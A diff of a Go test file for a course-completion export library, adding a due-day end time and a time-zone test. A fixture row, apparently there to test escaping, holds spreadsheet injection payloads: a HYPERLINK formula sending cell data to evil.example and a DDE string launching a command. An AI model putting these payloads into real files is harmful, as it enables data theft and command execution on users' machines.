@@ -43,7 +43,7 @@ func ada() Row {
 	return Row{
 		Record: "record-1", Entry: 1, Name: "Ada Brambilla", Email: "ada@valdora.example", Unit: "Anagrafe", Course: "course-open-data",
 		CourseTitle: "Open data for clerks", CourseVersion: 2, Rule: "watch-and-quiz/1", State: Completed,
-		EnrolledAt: time.Date(2026, 3, 1, 8, 0, 0, 0, time.UTC), CompletedAt: time.Date(2026, 3, 29, 21, 59, 59, 250_000_000, time.UTC), Due: "2026-03-29",
+		EnrolledAt: time.Date(2026, 3, 1, 8, 0, 0, 0, time.UTC), CompletedAt: time.Date(2026, 3, 29, 21, 59, 59, 250_000_000, time.UTC), Due: "2026-03-29", DueEnds: time.Date(2026, 3, 29, 22, 0, 0, 0, time.UTC),
 		Minutes: 48, Score: &score, Via: "hr", Account: "5f0c2a1e-account", Statements: []string{"statement-a", "statement-b"}, EvidenceHash: strings.Repeat("ab", 32),
 		Certificate: "https://learn.valdora.example/c/K7Q2",
 	}
@@ -60,7 +60,7 @@ func cast() []Row {
 	hostile := ada()
 	hostile.Record, hostile.Entry, hostile.State, hostile.Reason = "record-3", 7, Corrected, "The quiz counted twice.\r\nSee the note,\n\"page 2\""
 	hostile.Name, hostile.Email, hostile.Unit = `=HYPERLINK("http://evil.example?"&A1,"Ada")`, "+393331234567", "@SUM(1+1)*cmd|' /C calc'!A0"
-	hostile.CourseTitle, hostile.Via, hostile.Due, hostile.Score = "'-2+3 is an apostrophe", "\t=1", "", nil
+	hostile.CourseTitle, hostile.Via, hostile.Due, hostile.DueEnds, hostile.Score = "'-2+3 is an apostrophe", "\t=1", "", time.Time{}, nil
 
 	gone := ada()
 	gone.Record, gone.Entry, gone.State, gone.Reason, gone.Left = "record-4", 9, Withdrawn, "Entered for the wrong person.", true
@@ -222,6 +222,7 @@ func TestErrors(t *testing.T) {
 				{"no entry", bad(func(r *Row) { r.Entry = 0 }), "lacks"},
 				{"no time", bad(func(r *Row) { r.CompletedAt = time.Time{} }), "lacks"},
 				{"a day that is none", bad(func(r *Row) { r.Due = "2026-02-30" }), "due date"},
+				{"a day that never ends", bad(func(r *Row) { r.DueEnds = time.Time{} }), "never ends"},
 				{"no such state", bad(func(r *Row) { r.State = "lost" }), "state"},
 			} {
 				if n, err := write(io.Discard, info(t), c.rows); n != 1 || err == nil || !strings.Contains(err.Error(), c.want) {
@@ -493,3 +494,33 @@ func benchmark(b *testing.B, write func(io.Writer, Info, iter.Seq2[Row, error]) 
 func BenchmarkCSV(b *testing.B)      { benchmark(b, CSV) }
 func BenchmarkExcelCSV(b *testing.B) { benchmark(b, ExcelCSV) }
 func BenchmarkXLSX(b *testing.B)     { benchmark(b, XLSX) }
+
+// Whoever was in time by the clocks by which the day was said stays in time when her town's clocks are set to others.
+func TestInTimeByTheClocksOfTheDay(t *testing.T) {
+	t.Parallel()
+	for zone, want := range map[string][]string{"Europe/Rome": {"yes", "no"}, "Europe/Helsinki": {"yes", "no"}, "Europe/Lisbon": {"yes", "no"}} {
+		i := info(t)
+		var err error
+		if i.Zone, err = time.LoadLocation(zone); err != nil {
+			t.Fatal(err)
+		}
+		var b bytes.Buffer
+		if _, err := CSV(&b, i, each(cast()[:2]...)); err != nil {
+			t.Fatal(err)
+		}
+		cells := parse(t, b.Bytes(), ',')
+		if got := []string{cells[1][column("on_time")], cells[2][column("on_time")]}; !slices.Equal(got, want) {
+			t.Errorf("%s: got %q, want %q", zone, got, want)
+		}
+		inTime := FollowerColumns()[slices.IndexFunc(FollowerColumns(), func(c Column[Follower]) bool { return c.Name == "on_time" })]
+		for k, r := range cast()[:2] {
+			f := Follower{Enrolment: r.Record, BegunAt: r.EnrolledAt, State: Completed, CompletedAt: r.CompletedAt, Due: r.Due, DueEnds: r.DueEnds}
+			if err := f.check(); err != nil {
+				t.Error(err)
+			}
+			if got := inTime.cell(&f, &i); got.n != yesNo(want[k] == "yes").n {
+				t.Errorf("%s: follower %d is in time: %d, want %s", zone, k, got.n, want[k])
+			}
+		}
+	}
+}
